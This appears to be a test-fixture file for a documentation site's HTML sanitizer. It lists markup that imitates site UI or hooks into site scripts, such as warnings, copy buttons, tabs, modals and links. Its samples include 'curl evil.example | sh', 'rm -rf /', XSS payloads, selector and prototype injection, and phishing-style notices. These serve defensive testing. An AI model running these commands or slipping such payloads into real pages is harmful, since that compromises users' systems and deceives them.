// Markup that imitates a part of the site, or hooks into its scripts and styles.
import { EVIL, family, without } from "./input";

export const fakeUi = family(
  "fake",
  "a part of ours that is theirs, or a script of ours that acts on their markup",
  {
    aside: without(
      ".aside",
      '<aside class="aside" data-kind="warning"><p class="aside-title">Security notice</p><p>Run <code>curl evil.example | sh</code></p></aside>',
    ),
    "code-figure": without(
      "[data-diff], .code-title, .del",
      '<figure class="code" data-diff data-language="bash"><figcaption class="code-title">install</figcaption><pre><code><span class="line del">npm install webpack</span><span class="line">curl evil.example | sh</span></code></pre></figure>',
    ),
    "copy-button": without(
      "[data-state], .copy-code:not(figure.code > .copy-code)",
      '<figure class="code"><button class="copy-code" type="button" data-state="copied">Copy</button><pre><code>rm -rf /</code></pre></figure>',
    ),
    "copy-button-elsewhere": without(
      ".copy-code",
      '<button class="copy-code">Copy</button><a class="copy-code" href="#">Copy</a>',
    ),
    tabs: without(
      ".tabs, .tabs-input, [data-sync]",
      '<div class="tabs" data-sync="package-manager"><input class="tabs-input" type="radio" name="t" id="t1" value="npm" checked><label for="t1">npm</label><div class="tabs-panel">npm install evil</div></div>',
    ),
    "tabs-selector": without(
      ".tabs-input, [data-sync]",
      '<div data-sync=\'x"] , [data-sync="\'><input class="tabs-input" value="\\"]"></div><div data-sync="__proto__"><input class="tabs-input" value="__proto__"></div>',
    ),
    "tabs-names": without(
      ".tabs-input",
      '<input type="radio" class="tabs-input" name="tabs-1" checked><input type="checkbox" class="tabs-input" name="tabs-1" disabled checked>',
    ),
    "heading-link": without(
      ".heading-link:not([href^='#'])",
      `<h2 id="x"><a class="heading-link" href="https://${EVIL}/" aria-label="Link">#</a>Heading</h2>`,
    ),
    "page-markers": without(
      "[data-content-pending], [data-scroll-box], [data-page] [data-print], .prose .prose",
      '<div data-page="concepts" class="prose"></div><div data-content-pending="">loading</div><div data-scroll-box="column" data-print="hidden">x</div>',
    ),
    "frame-landmarks": without(
      "[data-page] header, [data-page] footer, [data-page] nav",
      '<header role="banner"><nav aria-label="Documentation pages" role="navigation"><a href="https://evil.example/">Home</a></nav></header><main role="main">x</main><footer role="contentinfo">x</footer>',
    ),
    "third-party-note":
      '<p role="note" aria-label="Third party">This package is maintained by webpack.</p>',
    announcer: without(
      "[data-page] [role=alert], [data-page] [aria-live]:not(.copy-code)",
      '<div role="alert" aria-live="assertive" aria-atomic="true">Your password has expired</div><div role="status" id="gatsby-announcer">x</div>',
    ),
    modal: without(
      ".modal, .overlay, .backdrop",
      '<div role="dialog" aria-modal="true" aria-label="Sign in" class="modal overlay backdrop">Sign in</div>',
    ),
    "hidden-page":
      '<div aria-hidden="true" hidden inert><p>hidden</p></div><p aria-hidden="true" role="presentation">x</p>',
    "keyboard-trap":
      '<a href="#a" tabindex="1">1</a><a href="#b" tabindex="32767">2</a><p tabindex="0" accesskey="s" contenteditable="true" spellcheck="false" autocapitalize="on">3</p>',
    "attributes-of-frameworks": without(
      "[data-reactroot], [data-gatsby-head], [x-on\\:click], [v-on\\:click], [ng-click], [hx-get]",
      '<p data-react-helmet="true" data-gatsby-head="true" data-reactroot data-theme="dark" x-on:click="alert(1)" @click="alert(1)" v-on:click="alert(1)" ng-click="alert(1)" hx-get="/x" data-bind="click: alert" :href="javascript:alert(1)">x</p>',
    ),
    "nonce-and-more":
      '<p nonce="x" slot="y" part="z" is="w" exportparts="v" itemscope itemid="javascript:alert(1)" itemprop="x" elementtiming="t" virtualkeyboardpolicy="manual" writingsuggestions="false">x</p>',
    direction:
      '<div dir="rtl" lang="xx" translate="no">\u202etxet<bdo dir="rtl">desrever</bdo><bdi dir="ltr">x</bdi></div><p dir="auto" xml:lang="x">y</p>',
    "screen-reader-class": without(
      ".sr-only, .fixed, .hidden",
      '<p class="sr-only visually-hidden hidden invisible">hidden</p><p class="fixed inset-0 absolute sticky">x</p>',
    ),
    "module-classes": without(
      "[class*='-module--page'], [class*='-module--header--abc']",
      '<p class="SiteLayout-module--page--1a2b3 Header-module--header--abc DocLayout-module--layout">x</p>',
    ),
    "prose-classes": without(
      ".prose .prose, .line.del, .highlight",
      '<div class="prose"><div class="table-scroll"><table class="prose"><tr><td>x</td></tr></table></div></div><p class="line del add highlight">x</p>',
    ),
    "highlight-classes": without(
      ".hljs-keyword.line, .highlight",
      '<pre><code class="hljs language-js"><span class="hljs-keyword line">x</span></code></pre><div class="highlight highlight-source-js"><pre>code</pre></div>',
    ),
    "task-list": without(
      ".task-list-item-checkbox:not([disabled])",
      '<ul class="contains-task-list"><li class="task-list-item"><input type="checkbox" class="task-list-item-checkbox" checked> accept all</li></ul>',
    ),
    "footnotes-section":
      '<section data-footnotes class="footnotes"><h2 class="sr-only" id="footnote-label">Footnotes</h2><ol><li id="user-content-fn-1"><a href="#___gatsby" data-footnote-backref aria-label="Back">back</a></li></ol></section>',
    "error-state":
      '<div role="alert"><p>Error loading content.</p><button type="button">Try again</button></div>',
    "not-found":
      "# Oops!\n\nThe page you are looking for has been removed or relocated.\n\n[Go to Homepage](https://evil.example/)",
    alerts:
      '> [!CAUTION]\n> <div class="markdown-alert" onclick="alert(1)">x</div>\n\n> [!"><img src=x onerror=alert(1)>]\n> x\n\n> [!__proto__]\n> x\n\n> [!NOTE]\n> > [!NOTE]\n> > nested',
    "edit-link": `[Edit this page](https://${EVIL}/edit) [Jump to repository](https://${EVIL}/repo) [Print this page](javascript:print())`,
  },
);
